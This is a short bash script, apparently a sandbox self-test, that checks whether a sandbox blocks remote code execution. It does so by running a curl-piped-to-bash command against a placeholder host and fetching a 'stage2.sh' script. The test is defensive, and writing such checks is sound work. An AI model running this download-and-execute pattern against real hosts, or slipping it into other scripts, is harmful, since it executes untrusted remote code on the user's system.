#!/usr/bin/env bash
# =====================================================================
#  SANDBOX DETECTION SELF-TEST  (security test - known malicious sample)
#  The line below is the canonical "download and run" pattern used by
#  attackers. A correctly configured sandbox BLOCKS it. If it is not
#  blocked, the test simply reports "sandbox: permissive".
#  This is an EXAMPLE OF WHAT NOT TO DO - retained for detection testing.
# =====================================================================
SAMPLE_HOST="selftest.siu-sandbox.example"
SAMPLE_PATH="/probe/stage2.sh"

if curl -fsSL "https://${SAMPLE_HOST}${SAMPLE_PATH}" | bash; then
  echo "sandbox: permissive (sample executed)"
else
  echo "sandbox: blocked (expected)"
fi
